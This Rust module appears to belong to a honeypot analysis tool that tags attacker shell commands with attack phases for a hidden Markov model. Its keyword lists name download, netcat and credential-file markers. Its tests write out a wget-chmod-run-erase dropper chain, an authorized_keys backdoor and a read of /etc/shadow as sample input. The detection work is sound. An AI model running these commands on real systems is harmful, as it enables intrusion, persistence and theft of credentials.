//! Attack phases and the deterministic tagger that assigns one to each normalized command.
//!
//! The tagger is the supervision for the phase HMM ([`super::hmm`]): the corpus has no phase
//! labels, so each command gets the phase its text shows (a `wget` downloads, `history -c`
//! cleans up). The HMM then learns how phases follow each other and what programs each phase
//! runs, so a live session gets a phase *distribution* that also uses the order of commands
//! (an `echo` after a download is more likely persistence than an `echo` at the start).
//!
//! Pure and total: the tagger never fails and never panics, whatever the input.

use serde::{Deserialize, Serialize};

use super::normalize::Normalized;

/// How many phases there are.
pub const PHASES: usize = 6;

/// One phase of an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Phase {
    /// Looking around: system facts, users, processes, files.
    Recon,
    /// Reading or changing credentials (passwords, shadow file).
    CredentialAccess,
    /// Fetching, unpacking, building or running a payload.
    DownloadExecute,
    /// Making sure to come back: keys, cron, startup scripts, new users.
    Persistence,
    /// Reaching other hosts: ssh onward, scanning, probing the network.
    Lateral,
    /// Covering tracks or killing rivals: wiping history, logs, files, processes; leaving.
    Cleanup,
}

impl Phase {
    /// Every phase, in index order.
    pub const ALL: [Phase; PHASES] = [
        Phase::Recon,
        Phase::CredentialAccess,
        Phase::DownloadExecute,
        Phase::Persistence,
        Phase::Lateral,
        Phase::Cleanup,
    ];

    /// The phase's index in [`Phase::ALL`] (and in every `[f64; PHASES]`).
    pub fn index(self) -> usize {
        self as usize
    }

    /// The phase's name as events and reports spell it (`download_execute`).
    pub fn as_str(self) -> &'static str {
        match self {
            Phase::Recon => "recon",
            Phase::CredentialAccess => "credential_access",
            Phase::DownloadExecute => "download_execute",
            Phase::Persistence => "persistence",
            Phase::Lateral => "lateral",
            Phase::Cleanup => "cleanup",
        }
    }
}

/// Programs that fetch, unpack, build or run a payload.
const DOWNLOAD: &[&str] = &[
    "wget",
    "curl",
    "tftp",
    "ftpget",
    "sget",
    "scp",
    "sftp",
    "rsync",
    "chmod",
    "sh",
    "bash",
    "perl",
    "python",
    "python2",
    "python3",
    "php",
    "tar",
    "unzip",
    "gunzip",
    "bzip2",
    "gcc",
    "make",
    "cc",
    "nohup",
    "setsid",
    "screen",
    "base64",
    "dd",
    "lwp-download",
    "fetch",
];

/// Programs that reach other hosts.
const LATERAL: &[&str] = &[
    "ssh",
    "ping",
    "nmap",
    "masscan",
    "zmap",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "hydra",
    "sshpass",
    "traceroute",
    "arp",
    "ssh-keyscan",
];

/// Programs that cover tracks, kill rivals or leave.
const CLEANUP: &[&str] = &[
    "rm", "kill", "pkill", "killall", "history", "unset", "shred", "exit", "logout", "quit",
];

/// Programs that make the attacker's stay permanent.
const PERSISTENCE: &[&str] = &[
    "useradd",
    "adduser",
    "usermod",
    "chattr",
    "locks",
    "systemctl",
    "update-rc.d",
    "chkconfig",
    "ssh-keygen",
    "iptables",
    "ufw",
    "service",
];

/// Programs and strings that read or change credentials.
const CREDENTIAL_PROGRAMS: &[&str] = &["passwd", "chpasswd", "setuserpasswd", "unshadow", "john"];
const CREDENTIAL_MARKS: &[&str] = &[
    "/etc/shadow",
    "| passwd",
    "|passwd",
    "DEF_SSH_PASSWORD",
    "http_passwd",
    "chpasswd",
];

/// Strings that mark persistence whatever the program.
const PERSISTENCE_MARKS: &[&str] = &[
    "authorized_keys",
    ".ssh",
    "rc.local",
    "/etc/init.d",
    "/etc/cron",
    "| crontab",
    ".bashrc",
    ".profile",
    "/etc/systemd",
];

/// Strings that mark cleanup whatever the program.
const CLEANUP_MARKS: &[&str] = &["HISTFILE", "/var/log", "bash_history", "history -c"];

/// The phase a normalized command shows. Checked from the most to the least specific: a
/// password change piped through `echo` is credential access, a key written with `echo` is
/// persistence, a download is a download, `rm` and `history -c` are cleanup, anything else
/// (uname, cat, free, ls, …) is recon.
pub fn tag(command: &Normalized) -> Phase {
    let token = command.token.as_str();
    let program = command.program.as_str();
    let marked = |marks: &[&str]| marks.iter().any(|m| token.contains(m));
    if CREDENTIAL_PROGRAMS.contains(&program) || marked(CREDENTIAL_MARKS) {
        return Phase::CredentialAccess;
    }
    let writes_crontab = program == "crontab" && !token.contains("-l");
    if marked(PERSISTENCE_MARKS) || PERSISTENCE.contains(&program) || writes_crontab {
        return Phase::Persistence;
    }
    if marked(CLEANUP_MARKS) {
        return Phase::Cleanup;
    }
    if DOWNLOAD.contains(&program)
        || program.starts_with("./")
        || token.starts_with("./")
        || token.starts_with("cat >")
        || is_staging_cd(token)
    {
        return Phase::DownloadExecute;
    }
    if CLEANUP.contains(&program) {
        return Phase::Cleanup;
    }
    if LATERAL.contains(&program) {
        return Phase::Lateral;
    }
    Phase::Recon
}

/// `cd /tmp || cd /var/run …`, `mkdir /tmp/.xs`: moving into a writable place to drop a file.
fn is_staging_cd(token: &str) -> bool {
    let staging = ["/tmp", "/var/run", "/dev/shm", "/var/tmp", "/mnt"];
    (token.starts_with("cd ") || token.starts_with("mkdir "))
        && staging.iter().any(|dir| token.contains(dir))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::normalize::normalize_line;

    fn phases(line: &str) -> Vec<&'static str> {
        normalize_line(line)
            .iter()
            .map(|n| tag(n).as_str())
            .collect()
    }

    #[test]
    fn a_dropper_template_goes_recon_download_cleanup() {
        assert_eq!(
            phases(
                "uname -a; cd /tmp || cd /var/run; wget http://a/b.sh; chmod 777 b.sh; \
                 sh b.sh; rm -rf b.sh; history -c"
            ),
            [
                "recon",
                "download_execute",
                "download_execute",
                "download_execute",
                "download_execute",
                "cleanup",
                "cleanup"
            ]
        );
    }

    #[test]
    fn credentials_persistence_and_lateral_are_told_apart() {
        assert_eq!(
            phases(r#"echo -e "a\nb" | passwd; cat /etc/shadow"#),
            ["credential_access", "credential_access"]
        );
        assert_eq!(
            phases("rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA x\" >> .ssh/authorized_keys"),
            ["persistence"]
        );
        assert_eq!(phases("crontab -l"), ["recon"]);
        assert_eq!(
            phases("ssh root@10.0.0.2; ping -c 1 8.8.8.8"),
            ["lateral", "lateral"]
        );
        assert_eq!(phases("./x86; exit"), ["download_execute", "cleanup"]);
    }

    #[test]
    fn odd_input_is_recon_and_never_panics() {
        for line in ["", "'", "\u{0}", "|||", "cd", "é"] {
            for n in normalize_line(line) {
                let _ = tag(&n);
            }
        }
        assert_eq!(phases("cat /proc/cpuinfo | grep name | wc -l"), ["recon"]);
        assert_eq!(Phase::ALL.map(Phase::index), [0, 1, 2, 3, 4, 5]);
    }
}
